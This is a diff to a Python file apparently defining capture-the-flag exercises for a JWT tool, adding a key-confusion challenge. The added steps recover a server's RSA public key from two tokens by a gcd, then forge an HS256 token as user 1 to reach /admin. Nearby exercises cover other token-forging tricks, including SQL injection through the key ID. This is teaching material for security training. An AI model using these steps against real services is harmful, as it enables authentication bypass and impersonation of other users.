@@ -23,6 +23,10 @@ SUB = "--set sub='\"1\"'"  # sub is a StringOrURI: the JSON string "1", never th
 PEM = ("python3 -c 'import json,sys,jwt; from cryptography.hazmat.primitives import serialization as s; "
        "k=jwt.algorithms.RSAAlgorithm.from_jwk(json.load(sys.stdin)[\"keys\"][0]); "
        "sys.stdout.buffer.write(k.public_bytes(s.Encoding.PEM, s.PublicFormat.SubjectPublicKeyInfo))'")
+# Two of the server's tokens -> its RSA public key as PEM (authcli/tokens/recover.py: a gcd, checked
+# by verifying both signatures with the key found).
+RECOVER = ("python3 -c 'import sys; from authcli.tokens.parse import split; from authcli.tokens.recover import "
+           "recover; sys.stdout.buffer.write(recover(split(sys.argv[1]), split(sys.argv[2])).pem())'")
 DECODE = ("Log in as yourself (" + LOGIN + ") and decode the token it answers: authcli decode $TOKEN "
           "(without a key it shows what the token claims, unverified).")
 
@@ -166,6 +170,17 @@ EXERCISES: dict[str, Exercise] = {e.name: e for e in [
         "Write the key as PEM: curl -s {url}/.well-known/jwks.json | " + PEM + " > public.pem",
         f"authcli tamper $TOKEN {SUB} --alg HS256 --secret-file public.pem signs with those exact "
         "bytes (final newline kept). " + SEND), _foreign_key),
+    Exercise("alg-confusion-no-key", "Get this run's flag from GET /admin, which answers only user 1.",
+             (*JWT_TOOLS, "python3 with authcli.tokens.recover (pip install 'authcli[gmpy2]')"), (
+        DECODE + " It is RS256, and this server publishes no key: {url}/.well-known/jwks.json is 404.",
+        "An RS256 signature s is m^d mod n, where m is the PKCS #1 v1.5 encoding of header.payload's "
+        "SHA-256, which anyone can compute [^rfc8017-9.2]; with e = 65537, s^e - m is a multiple of n "
+        "for every token, so the gcd over two tokens gives the public key away [^portswigger-alg-confusion].",
+        "Log in twice (two tokens, T1 and T2), and recover the key as PEM with authcli's own code "
+        "(gmpy2 makes it seconds): " + RECOVER + " \"$T1\" \"$T2\" > public.pem",
+        "A verifier that lets the token's alg decide checks an HS256 token's HMAC with the public key's "
+        f"PEM [^rfc8725-3.1]: authcli tamper $TOKEN {SUB} --alg HS256 --secret-file public.pem. " + SEND),
+        _foreign_key),
     Exercise("kid-sql", "Get this run's flag from GET /admin, which answers only user 1.",
              (*JWT_TOOLS, "authcli sign"), (
         DECODE + " Its header's kid names the key the server should use: the name of a row in its "
